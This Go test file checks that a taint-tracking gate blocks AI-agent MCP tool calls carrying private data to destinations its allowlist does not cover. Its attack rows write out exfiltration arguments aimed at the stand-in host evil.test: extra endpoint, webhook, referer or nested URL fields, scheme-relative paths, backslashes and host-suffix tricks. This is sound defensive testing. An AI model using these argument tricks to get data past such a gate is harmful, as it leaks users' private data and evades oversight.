package taintgate

import (
	"strings"
	"testing"

	"github.com/lever-jail/lever/internal/lev/taint"
)

// TestURLArgumentsAreTargets: an MCP server whose destination argument is not one lev
// reads a target from (endpoint, uri, webhook, server, a nested request.url) is not
// vouched for by an allowlist entry scoped to the call's path. Each row is a real run
// (engine, scripted model, pipeline, this gate) that reads Private data through a grant
// and then calls mcp__web__deliver on a real stdio MCP server classified outbound
// (clearance internal), under the policy
//
//	[[allow]] tool = "mcp__web__deliver" target = "/tmp/x"        max_sensitivity = "private"
//	[[allow]] tool = "mcp__web__deliver" target = "*.example.com" max_sensitivity = "private"
//	[[allow]] tool = "mcp__web__deliver" target = "/*"            max_sensitivity = "private"
//	[[allow]] tool = "mcp__web__deliver" target = "*.json"        max_sensitivity = "private"
//
// The attack rows carry a path the first entry matches and a URL to evil.test in another
// argument; each must be AutoBlocked with the server receiving nothing, its audit naming
// the URL and why. So must a url ending at its host beside text a server could append to
// it (base URL + endpoint), and a path the last two entries match as text that a server
// resolving it as a URL reads a host from. The controls reach the server: the path alone,
// the path with markdown content holding links (text is not a destination), a url with a
// referer on its own host, a call whose only URL is nested (its host is the target, under
// the second entry), a url with a path beside text, and a plain absolute path.
func TestURLArgumentsAreTargets(t *testing.T) {
	const policy = "[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"/tmp/x\"\nmax_sensitivity = \"private\"\n" +
		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"*.example.com\"\nmax_sensitivity = \"private\"\n" +
		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"/*\"\nmax_sensitivity = \"private\"\n" +
		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"*.json\"\nmax_sensitivity = \"private\"\n"
	for _, tc := range []struct {
		name, args string
		rule       string // the allowing entry; "" when the call must be blocked
		target     string // the audit record's target
		why        string // in the audit's reason when blocked
	}{
		{"control: the path alone", `{"path": "/tmp/x"}`, "allow[0]", "/tmp/x", ""},
		{"control: markdown content with links", `{"path": "/tmp/x", "content": "# Notes\n\nSee https://evil.test/ and <https://docs.example.com/>.\n"}`, "allow[0]", "/tmp/x", ""},
		{"control: a referer on the url's host", `{"url": "https://docs.example.com/x", "referer": "https://docs.example.com/"}`, "allow[1]", "docs.example.com", ""},
		{"control: the only URL, nested", `{"request": {"url": "https://hooks.example.com/a"}}`, "allow[1]", "hooks.example.com", ""},
		{"endpoint", `{"path": "/tmp/x", "endpoint": "https://evil.test/"}`, "", "path=/tmp/x endpoint=https://evil.test/", "its endpoint argument is a URL too, and the server may send to it"},
		{"uri", `{"path": "/tmp/x", "uri": "https://evil.test/u"}`, "", "path=/tmp/x uri=https://evil.test/u", "its uri argument is a URL too"},
		{"webhook", `{"path": "/tmp/x", "webhook": "https://evil.test/h"}`, "", "path=/tmp/x webhook=https://evil.test/h", "its webhook argument is a URL too"},
		{"server", `{"path": "/tmp/x", "server": "wss://evil.test/s"}`, "", "path=/tmp/x server=wss://evil.test/s", "its server argument is a URL too"},
		{"nested request.url", `{"path": "/tmp/x", "request": {"url": "https://evil.test/"}}`, "", "path=/tmp/x request.url=https://evil.test/", "its request.url argument is a URL too"},
		{"a referer on another host", `{"url": "https://docs.example.com/x", "referer": "https://evil.test/"}`, "", "url=https://docs.example.com/x referer=https://evil.test/", "its referer argument is a URL too"},
		{"two URLs and no target", `{"endpoint": "https://docs.example.com/", "webhook": "https://evil.test/"}`, "", "endpoint=https://docs.example.com/ webhook=https://evil.test/", "carries 2 URLs"},
		{"control: a url with a path beside text", `{"url": "https://docs.example.com/v1/x", "content": "hello"}`, "allow[1]", "docs.example.com", ""},
		{"control: a plain absolute path", `{"path": "/srv/x.json"}`, "allow[2]", "/srv/x.json", ""},
		{"a url ending at its host beside an endpoint", `{"url": "https://docs.example.com", "endpoint": "@evil.test/"}`, "", "url=https://docs.example.com endpoint=@evil.test/", "its url argument ends at its host"},
		{"a url ending at its host beside a suffix", `{"url": "https://docs.example.com", "content": ".evil.test"}`, "", "url=https://docs.example.com content=.evil.test", "its url argument ends at its host"},
		{"a path that is a URL", `{"path": "https://evil.test/x.json"}`, "", "https://evil.test/x.json", "its path argument is a URL"},
		{"a scheme-relative path", `{"path": "//evil.test/x"}`, "", "//evil.test/x", "its path argument starts with //"},
		{"a path with a backslash", `{"path": "/\\evil.test/x.json"}`, "", "/\\evil.test/x.json", "its path argument contains a backslash"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Setenv("LEV_BENCH_SOCKET", "")
			w := newWorld(t)
			w.exec = mcpExec
			log := logFile(t, "web")
			o := w.run(t, runCase{
				tools:   []string{"read_file", "mcp__web__*"},
				script:  strings.ReplaceAll(script("one", "mcp__web__deliver", tc.args), "HOME", w.home),
				policy:  policy,
				bpExtra: "[mcp]\nservers = [\"web\"]\n",
				config:  stdioServer("web", "web", log, w.wd, "classification = \"outbound\"\nclearance = \"internal\"\n"),
			})
			allowed := tc.rule != ""
			src := taint.SourceAutoBlock
			if allowed {
				src = taint.SourcePolicyAllow
			}
			checkAudit(t, o.audit, want{tool: "mcp__web__deliver", sources: []taint.Source{src}, taint: taint.Private, rule: tc.rule})
			rec := calls(o.audit)[0]
			if rec.Target != tc.target {
				t.Errorf("audit target %q, want %q", rec.Target, tc.target)
			}
			if !allowed && (!strings.Contains(rec.Reason, "unclear") || !strings.Contains(rec.Reason, tc.why)) {
				t.Errorf("the reason does not say the target is unclear because %q: %s", tc.why, rec.Reason)
			}
			got := received(t, log)
			if allowed != strings.Contains(got, "deliver ") {
				t.Fatalf("allowed %v, but the server received %q", allowed, got)
			}
		})
	}
}
